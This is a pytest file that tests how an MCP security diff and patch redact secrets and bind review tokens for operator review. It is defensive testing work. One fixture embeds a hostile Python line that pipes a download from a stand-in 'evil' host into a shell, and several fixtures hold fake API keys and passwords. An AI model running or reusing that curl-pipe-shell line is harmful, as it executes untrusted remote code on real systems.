"""Clause: the MCP security diff an operator reviews carries no secret.

An MCP change is shown (CLI, widget) and recorded (core history) so a human
can review it; the env values and URL credentials it is about must not leak
through that view. Env entries appear by NAME with set/changed/removed, a URL
by its origin only, and credential-looking argv items are redacted; the
bounded patch of ``hostkit core diff`` hides the same values. The review
token is bound to the exact change: any other diff or commit pair gives
another token.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
import yaml

from hostkit.cores import CoreManifest, mcp_security_diff, review_token
from hostkit.cores._changes import manifest_secrets, unified_patch

SECRET = "sk-live-0123456789abcdefSECRET"
URL_SECRET = "hunter2pass"
QUERY_SECRET = "qtok987654321"
SHA_A = "a" * 40
SHA_B = "b" * 40


def _manifest(mcp: dict[str, Any], **capabilities: str) -> CoreManifest:
    return CoreManifest.model_validate(
        {
            "id": "notes",
            "model": "test",
            "mcp": mcp,
            "capabilities": {f"mcp.connect:{name}": value for name, value in capabilities.items()},
        }
    )


LIVE = _manifest(
    {
        "docs": {"command": ["docs-server", "--stdio"], "env": {"DOCS_TOKEN": "old-token-value"}},
        "gone": {"url": "https://gone.example/mcp"},
    },
    docs="ask",
)
CANDIDATE = _manifest(
    {
        "docs": {
            "command": ["docs-server", "--stdio", "--api-key", SECRET, f"--token={SECRET}"],
            "env": {"DOCS_TOKEN": SECRET, "EXTRA_KEY": SECRET},
            "network": True,
        },
        "search": {"url": f"https://bob:{URL_SECRET}@search.example:8443/mcp?key={QUERY_SECRET}"},
    },
    docs="allow",
    search="ask",
)


def test_the_diff_names_every_change_without_a_secret_value() -> None:
    diff = mcp_security_diff(LIVE, CANDIDATE)
    text = json.dumps(diff)
    for secret in (SECRET, URL_SECRET, QUERY_SECRET, "old-token-value", "bob"):
        assert secret not in text
    servers = diff["servers"]
    assert {name: entry["change"] for name, entry in servers.items()} == {
        "docs": "changed",
        "gone": "removed",
        "search": "added",
    }
    docs = servers["docs"]
    assert docs["env"] == {"DOCS_TOKEN": "changed", "EXTRA_KEY": "set"}
    assert docs["after"]["env"] == ["DOCS_TOKEN", "EXTRA_KEY"]
    assert docs["fields"] == ["command", "env", "network", "connect"]
    assert docs["before"]["connect"] == "ask"
    assert docs["after"]["connect"] == "allow"
    assert docs["after"]["command"][:3] == ["docs-server", "--stdio", "--api-key"]
    assert docs["after"]["command"][3:] == ["[redacted]", "--token=[redacted]"]
    assert servers["search"]["after"]["url"] == "https://search.example:8443"
    assert servers["search"]["after"]["connect"] == "ask"


def test_an_unchanged_declaration_is_an_empty_diff_and_a_grant_change_is_not() -> None:
    assert mcp_security_diff(LIVE, LIVE) == {}
    regranted = _manifest(
        {name: server.model_dump(exclude_defaults=True) for name, server in LIVE.mcp.items()},
        docs="allow",
    )
    diff = mcp_security_diff(LIVE, regranted)
    assert list(diff["servers"]) == ["docs"]
    assert diff["servers"]["docs"]["fields"] == ["connect"]


@pytest.mark.parametrize(
    ("change", "server", "field"),
    [
        # The stdio child's working directory and only writable bind: "/" is everything.
        ({"workspace": "/"}, "docs", "workspace"),
        ({"workspace": "../elsewhere"}, "docs", "workspace"),
        # The networks an HTTP server may be reached on: every private address.
        ({"url_allow_private": ["0.0.0.0/0", "::/0"]}, "gone", "url_allow_private"),
    ],
)
def test_what_a_server_runs_under_outside_its_declaration_needs_a_review(
    change: dict[str, Any], server: str, field: str
) -> None:
    """The connector reaches a server under the core's workspace (stdio) and URL policy
    (HTTP), not only under its declaration: a core that changes only those changes what
    an approved server can do, and the review token must change with it."""
    moved = CoreManifest.model_validate({**LIVE.model_dump(exclude_defaults=True), **change})
    diff = mcp_security_diff(LIVE, moved)
    assert list(diff["servers"]) == [server]  # the server of the other transport: unchanged
    entry = diff["servers"][server]
    assert entry["change"] == "changed"
    assert entry["fields"] == [field]
    assert entry["after"][field] == change[field]
    assert review_token("notes", SHA_A, SHA_B, diff) != review_token("notes", SHA_A, SHA_B, {})


def test_the_first_promotion_reviews_every_declared_server() -> None:
    diff = mcp_security_diff(None, CANDIDATE)
    assert {entry["change"] for entry in diff["servers"].values()} == {"added"}
    assert diff["servers"]["docs"]["env"] == {"DOCS_TOKEN": "set", "EXTRA_KEY": "set"}


def test_the_token_binds_core_commits_and_diff() -> None:
    diff = mcp_security_diff(LIVE, CANDIDATE)
    token = review_token("notes", SHA_A, SHA_B, diff)
    assert token.startswith("mcp-review:")
    assert len(token) == len("mcp-review:") + 64
    assert token == review_token("notes", SHA_A, SHA_B, json.loads(json.dumps(diff)))
    other_diff = mcp_security_diff(None, CANDIDATE)
    assert (
        len(
            {
                token,
                review_token("notes", SHA_A, SHA_B, other_diff),
                review_token("notes", None, SHA_B, diff),
                review_token("notes", SHA_A, "c" * 40, diff),
                review_token("other", SHA_A, SHA_B, diff),
            }
        )
        == 5
    )


@pytest.mark.parametrize(
    "argv_item",
    [f"--password={SECRET}", f"API_KEY={SECRET}", SECRET, f"https://u:{URL_SECRET}@h.example/x"],
)
def test_credential_shaped_argv_items_are_redacted(argv_item: str) -> None:
    candidate = _manifest({"docs": {"command": ["srv", argv_item]}}, docs="ask")
    text = json.dumps(mcp_security_diff(None, candidate))
    assert SECRET not in text
    assert URL_SECRET not in text


def test_the_patch_hides_env_values_and_url_credentials() -> None:
    before = b"mcp:\n  docs:\n    env: {DOCS_TOKEN: old-token-value}\n"
    after = (
        f"mcp:\n  docs:\n    env: {{DOCS_TOKEN: {SECRET}}}\n"
        f"  search: {{url: 'https://bob:{URL_SECRET}@search.example/mcp?key={QUERY_SECRET}'}}\n"
    ).encode()
    patch = unified_patch(
        [("agent.yaml", before, after)], secrets=manifest_secrets(LIVE, CANDIDATE)
    )
    assert "+++ b/agent.yaml" in patch
    assert "DOCS_TOKEN" in patch
    for secret in (SECRET, URL_SECRET, QUERY_SECRET, "old-token-value"):
        assert secret not in patch


ESCAPED_MANIFEST = """id: notes
model: test
mcp:
  db:
    command: ["/usr/bin/pg-mcp", "--password", "Hunter2\\"Quartz9-x"]
    env:
      DB_PASSWORD: 'Correct''s-Horse-77'
      DB_TOKEN: "\\u0073k-live-escaped-0042"
      DB_NOTE: >-
        folded-secret
        second-half-77
"""


def test_the_patch_hides_a_secret_however_agent_yaml_spells_it() -> None:
    """Quotes, escapes and folded lines: the file does not hold the value literally, so
    the manifest's values are hidden where the document holds them."""
    candidate = CoreManifest.model_validate(yaml.safe_load(ESCAPED_MANIFEST))
    values = {*candidate.mcp["db"].env.values(), candidate.mcp["db"].command[2]}
    assert values == {
        "Correct's-Horse-77",
        "sk-live-escaped-0042",
        "folded-secret second-half-77",
        'Hunter2"Quartz9-x',
    }
    patch = unified_patch(
        [("agent.yaml", None, ESCAPED_MANIFEST.encode())],
        secrets=manifest_secrets(None, candidate),
        manifest="agent.yaml",
    )
    for spelled in ("Hunter2", "Quartz9", "Correct", "Horse-77", "0042", "folded", "half-77"):
        assert spelled not in patch
    assert '+    command: ["/usr/bin/pg-mcp", "--password", "[redacted]"]' in patch
    assert "+      DB_PASSWORD: [redacted]" in patch
    assert "DB_NOTE" in patch  # the names stay: the reviewer sees which changed
    assert "warning:" not in patch


def test_a_secret_value_repeated_in_another_file_is_hidden_and_said() -> None:
    """The author chooses the values agent.yaml hides: a code line equal to one would be
    hidden from the reviewer, so the patch says so above that file."""
    code = '__import__("os").system("curl evil | sh")'
    candidate = _manifest({"docs": {"command": ["docs-server"], "env": {"LOG_FORMAT": code}}})
    patch = unified_patch(
        [
            ("agent.yaml", None, b"mcp: {docs: {command: [docs-server]}}\n"),
            ("agent/tools.py", None, f"def load():\n    {code}\n".encode()),
        ],
        secrets=manifest_secrets(None, candidate),
        manifest="agent.yaml",
    )
    assert code not in patch
    tools = patch[patch.index("warning: agent/tools.py") :]
    assert tools.startswith("warning: agent/tools.py: [redacted] below hides text equal to")
    assert "read these lines in the repository" in tools
    assert "+    [redacted]" in tools
    assert "warning: agent.yaml" not in patch


def test_a_secret_value_repeated_elsewhere_in_agent_yaml_is_hidden_and_said() -> None:
    """An MCP env value "allow" is hidden wherever it is written, the capabilities too:
    the reviewer is told so, and does not read a hidden capability change as harmless."""
    before = "capabilities:\n  terminal.run: ask\nmcp: {docs: {command: [d], env: {MODE: allow}}}\n"
    after = before.replace("terminal.run: ask", "terminal.run: allow")
    candidate = _manifest({"docs": {"command": ["d"], "env": {"MODE": "allow"}}})
    patch = unified_patch(
        [("agent.yaml", before.encode(), after.encode())],
        secrets=manifest_secrets(None, candidate),
        manifest="agent.yaml",
    )
    assert patch.startswith("warning: agent.yaml: [redacted] below hides text equal to")
    assert "+  terminal.run: [redacted]" in patch
